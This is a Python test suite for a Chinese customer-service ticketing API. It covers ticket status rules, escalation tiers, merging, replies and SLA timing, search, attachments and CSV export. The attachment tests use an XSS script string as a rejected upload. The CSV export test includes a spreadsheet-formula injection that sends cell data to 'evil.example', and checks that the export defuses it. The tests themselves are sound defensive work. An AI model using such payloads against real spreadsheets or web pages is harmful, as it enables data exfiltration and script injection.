"""Ticket workflow through the API: status rules, escalation tiers, merge, replies, SLA, lists, attachments."""

from __future__ import annotations

import csv
import io
from datetime import datetime, timedelta
from urllib.parse import unquote

from sqlalchemy import event

from kefu.core.context import Actor
from kefu.tickets import service


def _at(value: str) -> datetime:
    return datetime.fromisoformat(value)


# -- create and status ------------------------------------------------------------------------------------
def test_agent_creates_ticket_with_chinese_text(desk):
    t = desk.ticket(
        subject="会员充值后未到账",
        description="用户充值30元书币,页面显示失败但已扣款",
        category_id=desk.world.categories["pay"].id,
    )
    assert t["subject"] == "会员充值后未到账" and t["description"].startswith("用户充值30元书币")
    assert t["status"] == "open" and t["tier"] == 1
    assert t["assignee"]["name"] == "王小明" and t["team"]["name"] == "一线客服一组"
    assert t["category"]["name"] == "付费充值" and t["business_line"]["name"] == "阅读"
    assert t["customer"]["name"] == "张伟" and t["customer"]["phone"] == "138****5678"
    got = desk.get("agent", f"/tickets/{t['id']}").json()
    assert got["subject"] == "会员充值后未到账"
    kinds = [e["kind"] for e in desk.get("agent", f"/tickets/{t['id']}/events").json()["data"]]
    assert kinds == ["created"]


def test_status_changes_follow_the_workflow_and_closed_never_reopens(desk):
    t = desk.ticket()
    path = f"/tickets/{t['id']}"
    assert desk.patch("agent", path, json={"status": "resolved"}).json()["status"] == "resolved"
    assert desk.patch("agent", path, json={"status": "open"}).json()["status"] == "open"  # reopened
    assert desk.patch("agent", path, json={"status": "resolved"}).status_code == 200
    r = desk.patch("agent", path, json={"status": "closed"})
    assert r.status_code == 200 and r.json()["closed_at"] is not None
    for status in ("open", "resolved", "pending"):
        r = desk.patch("agent", path, json={"status": status})
        assert r.status_code == 409 and r.json()["field"] == "status", r.text
    r = desk.patch("agent", path, json={"subject": "改个标题"})
    assert r.status_code == 409
    assert desk.get("agent", path).json()["status"] == "closed"


def test_open_ticket_cannot_jump_to_closed(desk):
    t = desk.ticket()
    r = desk.patch("agent", f"/tickets/{t['id']}", json={"status": "closed"})
    assert r.status_code == 409 and r.json()["field"] == "status"


def test_escalated_status_only_through_escalate(desk):
    t = desk.ticket()
    r = desk.patch("agent", f"/tickets/{t['id']}", json={"status": "escalated"})
    assert r.status_code == 422 and r.json()["field"] == "status"
    assert desk.get("agent", f"/tickets/{t['id']}").json()["status"] == "open"


# -- escalation -----------------------------------------------------------------------------------------
def test_escalate_through_every_tier_and_back_down(desk):
    w = desk.world
    t = desk.ticket()
    tid = t["id"]
    r = desk.escalate(tid, reason="顾客要求赔偿,超出一线权限")
    assert r.status_code == 200, r.text
    t2 = r.json()
    assert (t2["tier"], t2["status"], t2["assignee_id"], t2["team_id"]) == (
        2,
        "escalated",
        w.users["team_lead"].id,
        w.teams["front"].id,
    )
    notes = desk.notifications("team_lead", "ticket.escalated")
    assert len(notes) == 1 and "升级" in notes[0].title and "超出一线权限" in notes[0].body

    r = desk.escalate(tid, who="team_lead", reason="涉及赔付金额较大,转投诉处理")
    assert r.status_code == 200, r.text
    t3 = r.json()
    assert (t3["tier"], t3["status"], t3["team_id"], t3["assignee_id"]) == (
        3,
        "escalated",
        w.teams["complaints"].id,
        None,
    )
    assert len(desk.notifications("lead2", "ticket.escalated")) == 1  # the complaints team's leader

    r = desk.escalate(tid, who="complaint_specialist", reason="再升级")
    assert r.status_code == 409 and r.json()["field"] == "tier"
    assert desk.get("agent", f"/tickets/{tid}").json()["tier"] == 3

    r = desk.post("complaint_specialist", f"/tickets/{tid}/deescalate", json={"reason": "已核实,退回组长跟进"})
    assert r.status_code == 200, r.text
    assert (r.json()["tier"], r.json()["assignee_id"], r.json()["team_id"]) == (
        2,
        w.users["team_lead"].id,
        w.teams["front"].id,
    )
    r = desk.post("team_lead", f"/tickets/{tid}/deescalate", json={"reason": "一线回访即可"})
    assert r.status_code == 200, r.text
    back = r.json()
    assert (back["tier"], back["status"], back["assignee_id"]) == (1, "open", w.users["agent"].id)
    assert len(desk.notifications("agent", "ticket.deescalated")) == 1
    r = desk.post("team_lead", f"/tickets/{tid}/deescalate", json={"reason": "再退"})
    assert r.status_code == 409 and r.json()["field"] == "tier"
    events = desk.get("agent", f"/tickets/{tid}/events").json()["data"]
    moves = [
        (e["kind"], e["data"]["from_tier"], e["data"]["to_tier"])
        for e in events
        if e["kind"] in ("escalated", "deescalated")
    ]
    assert moves == [("escalated", 1, 2), ("escalated", 2, 3), ("deescalated", 3, 2), ("deescalated", 2, 1)]


def test_escalation_and_deescalation_need_a_reason(desk):
    t = desk.ticket()
    for reason in ("", "   "):
        r = desk.escalate(t["id"], reason=reason)
        assert r.status_code == 422 and "reason" in r.text
    r = desk.post("agent", f"/tickets/{t['id']}/escalate", json={})
    assert r.status_code == 422 and r.json()["errors"][0]["field"] == "reason"
    assert desk.escalate(t["id"]).status_code == 200
    r = desk.post("team_lead", f"/tickets/{t['id']}/deescalate", json={"reason": " "})
    assert r.status_code == 422 and r.json()["field"] == "reason"
    assert desk.get("agent", f"/tickets/{t['id']}").json()["tier"] == 2


def test_resolved_ticket_cannot_be_escalated(desk):
    t = desk.ticket()
    desk.patch("agent", f"/tickets/{t['id']}", json={"status": "resolved"})
    r = desk.escalate(t["id"])
    assert r.status_code == 409 and r.json()["field"] == "status"


# -- merge ----------------------------------------------------------------------------------------------
def test_merge_closes_the_duplicate_and_both_histories_say_so(desk):
    a = desk.ticket(subject="骑手未送达")
    b = desk.ticket(subject="骑手未送达(重复来电)")
    r = desk.post("team_lead", f"/tickets/{b['id']}/merge", json={"target_id": a["id"], "reason": "同一订单重复来电"})
    assert r.status_code == 200, r.text
    assert r.json()["status"] == "closed" and r.json()["merged_into_id"] == a["id"]
    src = {e["kind"]: e["data"] for e in desk.get("agent", f"/tickets/{b['id']}/events").json()["data"]}
    dst = {e["kind"]: e["data"] for e in desk.get("agent", f"/tickets/{a['id']}/events").json()["data"]}
    assert src["merged_into"]["target_id"] == a["id"] and dst["merged_from"]["source_id"] == b["id"]
    assert desk.get("agent", f"/tickets/{a['id']}").json()["status"] == "open"
    r = desk.post("team_lead", f"/tickets/{a['id']}/merge", json={"target_id": b["id"]})
    assert r.status_code == 409 and r.json()["field"] == "target_id"
    r = desk.post("team_lead", f"/tickets/{a['id']}/merge", json={"target_id": a["id"]})
    assert r.status_code == 422 and r.json()["field"] == "target_id"


# -- replies, notes, SLA --------------------------------------------------------------------------------
def test_first_reply_sets_first_response_but_internal_note_does_not(desk, clock):
    t = desk.ticket()
    clock.advance(minutes=20)
    r = desk.post("agent", f"/tickets/{t['id']}/messages", json={"body": "内部备注:疑似恶意索赔", "internal": True})
    assert r.status_code == 201 and r.json()["internal"] is True
    assert desk.get("agent", f"/tickets/{t['id']}").json()["first_response_at"] is None
    clock.advance(minutes=10)
    r = desk.post("agent", f"/tickets/{t['id']}/messages", json={"body": "您好,已为您联系商家处理"})
    assert r.status_code == 201 and r.json()["internal"] is False
    got = desk.get("agent", f"/tickets/{t['id']}").json()
    assert _at(got["first_response_at"]) == clock.now()
    clock.advance(minutes=10)
    desk.post("agent", f"/tickets/{t['id']}/messages", json={"body": "请问还有其他问题吗?"})
    assert _at(desk.get("agent", f"/tickets/{t['id']}").json()["first_response_at"]) == clock.now() - timedelta(
        minutes=10
    )
    msgs = desk.get("agent", f"/tickets/{t['id']}/messages").json()
    assert msgs["count"] == 3 and [m["internal"] for m in msgs["data"]] == [True, False, False]
    kinds = [e["kind"] for e in desk.get("agent", f"/tickets/{t['id']}/events").json()["data"]]
    assert kinds.count("note") == 1 and kinds.count("reply") == 2


def test_pending_pauses_the_resolution_clock(desk, clock):
    t = desk.ticket()
    due = _at(t["resolution_due_at"])
    assert due == _at(t["created_at"]) + timedelta(hours=72)
    clock.advance(hours=2)
    r = desk.patch("agent", f"/tickets/{t['id']}", json={"status": "pending"})
    assert r.json()["status"] == "pending" and r.json()["resolution_due_at"] is None
    assert r.json()["sla_status"] == "paused"
    clock.advance(hours=5)
    r = desk.patch("agent", f"/tickets/{t['id']}", json={"status": "open"})
    assert _at(r.json()["resolution_due_at"]) == due + timedelta(hours=5)
    assert r.json()["sla_status"] == "on_track"


def test_external_complaint_gets_the_24h_policy(desk):
    t = desk.ticket(subject="12315转来的投诉:商家拒绝退款", channel="regulator", complaint_type="external")
    assert _at(t["resolution_due_at"]) - _at(t["created_at"]) == timedelta(hours=24)
    assert _at(t["first_response_due_at"]) - _at(t["created_at"]) == timedelta(hours=1)
    plain = desk.ticket()
    assert _at(plain["resolution_due_at"]) - _at(plain["created_at"]) == timedelta(hours=72)


# -- lists ----------------------------------------------------------------------------------------------
def test_list_filters(desk, clock):
    w = desk.world
    late = desk.ticket(subject="外卖超时未送达", category_id=w.categories["delivery.late"].id)
    parent = desk.ticket(subject="配送员不送上楼", category_id=w.categories["delivery"].id)
    refund = desk.ticket(subject="退款一直没到账", category_id=w.categories["refund"].id)
    other = desk.ticket("agent2", subject="登录不上账号", category_id=w.categories["login"].id)
    desk.patch("agent", f"/tickets/{refund['id']}", json={"status": "pending"})
    desk.escalate(parent["id"])

    def ids(**params):
        r = desk.get("team_lead", "/tickets", params=params)
        assert r.status_code == 200, r.text
        body = r.json()
        assert set(body) == {"data", "count"} and body["count"] == len(body["data"])
        return {t["id"] for t in body["data"]}

    assert ids() == {late["id"], parent["id"], refund["id"], other["id"]}
    assert ids(status="pending") == {refund["id"]}
    assert ids(status="pending,escalated") == {refund["id"], parent["id"]}
    assert ids(tier=2) == {parent["id"]}
    assert ids(category_id=w.categories["delivery"].id) == {late["id"], parent["id"]}
    assert ids(category_id=w.categories["delivery.late"].id) == {late["id"]}
    r = desk.get("agent", "/tickets", params={"mine": "true"})
    assert {t["id"] for t in r.json()["data"]} == {late["id"], refund["id"]}
    assert ids(overdue="true") == set()
    clock.advance(hours=73)
    desk.relogin()
    assert ids(overdue="true") == {late["id"], parent["id"], other["id"]}  # the pending one is paused


def test_chinese_search_with_bigrams_and_single_characters(desk):
    a = desk.ticket(subject="外卖超时未送达", description="骑手迟到一小时")
    b = desk.ticket(subject="超过配送范围", description="商家说不能及时送达")
    c = desk.ticket(subject="充值VIP会员失败", description="扣款成功但未开通")

    def ids(q):
        r = desk.get("agent", "/tickets", params={"q": q})
        assert r.status_code == 200, r.text
        return {t["id"] for t in r.json()["data"]}

    assert ids("超时") == {a["id"]}  # not b, which has 超过 and 及时 but not 超时
    assert ids("送达") == {a["id"], b["id"]}
    assert ids("骑手 迟到") == {a["id"]}
    assert ids("vip") == {c["id"]}
    assert ids("充值会员") == set()
    assert ids("超") == {a["id"], b["id"]}  # single character: substring fallback
    assert ids("款") == {c["id"]}
    assert ids("退货") == set()
    desk.patch("agent", f"/tickets/{c['id']}", json={"subject": "书币充值失败"})
    assert ids("vip") == set() and ids("书币") == {c["id"]}
    desk.patch("agent", f"/tickets/{c['id']}", json={"description": "已退款"})
    assert ids("退款") == {c["id"]} and ids("扣款") == set()


def test_queue_order_puts_yesterdays_open_tickets_first(desk, db, clock):
    w = desk.world
    u = w.users["agent"]
    yesterday = Actor(
        user_id=u.id,
        username=u.username,
        role=u.role,
        team_id=u.team_id,
        now=clock.now() - timedelta(days=1),
        display_name=u.display_name,
    )
    old = service.create_ticket(db, actor=yesterday, data={"subject": "昨天未处理完的工单", "priority": "low"})
    old_done = service.create_ticket(db, actor=yesterday, data={"subject": "昨天已解决的工单"})
    service.change_status(db, actor=yesterday, ticket=old_done, status="resolved")
    db.commit()
    urgent = desk.ticket(subject="今天的紧急工单", priority="urgent")
    normal = desk.ticket(subject="今天的普通工单")
    r = desk.get("agent", "/tickets", params={"order": "queue", "mine": "true", "active": "true"})
    rows = r.json()["data"]
    assert [t["id"] for t in rows] == [old.id, urgent["id"], normal["id"]]
    assert [t["carry_over"] for t in rows] == [True, False, False]
    everything = desk.get("agent", "/tickets", params={"mine": "true"}).json()["data"]
    assert everything[0]["id"] == old.id  # yesterday's resolved ticket is not carried over
    assert {t["id"]: t["carry_over"] for t in everything}[old_done.id] is False


def test_agent_ticket_list_uses_a_fixed_number_of_queries(desk, db, engine, clock):
    w = desk.world
    u = w.users["agent"]
    actor = Actor(
        user_id=u.id, username=u.username, role=u.role, team_id=u.team_id, now=clock.now(), display_name=u.display_name
    )
    for i in range(200):
        service.create_ticket(
            db,
            actor=actor,
            data={
                "subject": f"批量工单{i}",
                "customer_id": w.customers[i % 3].id,
                "category_id": list(w.categories.values())[i % 6].id,
                "business_line_id": w.lines["waimai"].id,
                "team_id": w.teams["front"].id,
            },
        )
    db.commit()
    statements: list[str] = []

    def count(conn, cursor, statement, *args):
        if statement.lstrip().split(None, 1)[0].upper() in ("SELECT", "INSERT", "UPDATE", "DELETE", "WITH"):
            statements.append(statement)

    event.listen(engine, "before_cursor_execute", count)
    try:
        for size in (10, 200):
            statements.clear()
            r = desk.get("agent", "/tickets", params={"limit": size, "mine": "true"})
            assert r.status_code == 200 and len(r.json()["data"]) == size
            assert all(t["assignee"] and t["customer"] and t["category"] for t in r.json()["data"])
            assert len(statements) <= 10, f"{len(statements)} queries for a page of {size}"
    finally:
        event.remove(engine, "before_cursor_execute", count)


# -- attachments ----------------------------------------------------------------------------------------
def test_attachment_upload_download_and_limits(desk, db, monkeypatch):
    from kefu.core.settings import get_settings

    t = desk.ticket()
    url = f"/tickets/{t['id']}/attachments"
    png = b"\x89PNG\r\n\x1a\n" + b"0" * 100
    r = desk.post("agent", url, files={"file": ("订单截图 11月.png", png, "image/png")})
    assert r.status_code == 201, r.text
    att = r.json()
    assert att["filename"] == "订单截图 11月.png" and att["size"] == len(png)
    r = desk.get("listener", f"/attachments/{att['id']}")
    assert r.status_code == 200 and r.content == png
    assert r.headers["content-type"] == "application/octet-stream"
    disposition = r.headers["content-disposition"]
    assert disposition.startswith("attachment;")
    assert unquote(disposition.split("filename*=UTF-8''", 1)[1]) == "订单截图 11月.png"
    assert r.headers["x-content-type-options"] == "nosniff"
    assert desk.audit("attachment.download")[-1].actor_id == desk.world.users["listener"].id

    r = desk.post("agent", url, files={"file": ("病毒.exe", b"MZ\x90\x00", "application/x-msdownload")})
    assert r.status_code == 422 and r.json()["field"] == "file"
    r = desk.post("agent", url, files={"file": ("页面.html", b"<script>alert(1)</script>", "text/html")})
    assert r.status_code == 422 and r.json()["field"] == "file"
    r = desk.post("agent", url, files={"file": ("空.txt", b"", "text/plain")})
    assert r.status_code == 422 and r.json()["field"] == "file"
    monkeypatch.setattr(get_settings(), "max_attachment_bytes", 1024)
    r = desk.post("agent", url, files={"file": ("大文件.pdf", b"%PDF" + b"x" * 1024, "application/pdf")})
    assert r.status_code == 422 and r.json()["field"] == "file"
    r = desk.post("agent", url, files={"file": ("正好.pdf", b"%PDF" + b"x" * 1020, "application/pdf")})
    assert r.status_code == 201
    listed = desk.get("agent", url).json()
    assert [a["filename"] for a in listed["data"]] == ["订单截图 11月.png", "正好.pdf"]


def test_attachment_of_missing_ticket_or_file_is_404(desk):
    assert desk.get("agent", "/attachments/999999").status_code == 404
    r = desk.post("agent", "/tickets/999999/attachments", files={"file": ("a.txt", b"x", "text/plain")})
    assert r.status_code == 404


def test_export_csv_is_excel_friendly_and_masked(desk):
    desk.ticket(subject="外卖超时,顾客要求赔偿")
    r = desk.get("analyst", "/tickets/export.csv")
    assert r.status_code == 200 and r.headers["content-type"].startswith("text/csv")
    text = r.content.decode("utf-8")
    assert text.startswith("\ufeffid,subject")
    assert "外卖超时,顾客要求赔偿" in text and "张伟" in text and "13812345678" not in text
    assert "attachment" in r.headers["content-disposition"]


def test_export_csv_defuses_spreadsheet_formulas(desk):
    desk.ticket(subject='=HYPERLINK("http://evil.example/?x="&A1,"点我退款")')
    desk.ticket(subject="+86 顾客来电", description="")
    desk.ticket(subject="@客服 请回电")
    text = desk.get("supervisor", "/tickets/export.csv").content.decode("utf-8-sig")
    subjects = {row[1] for row in list(csv.reader(io.StringIO(text)))[1:]}
    assert not any(s[:1] in ("=", "+", "-", "@") for s in subjects), subjects
    assert "'+86 顾客来电" in subjects and "'@客服 请回电" in subjects
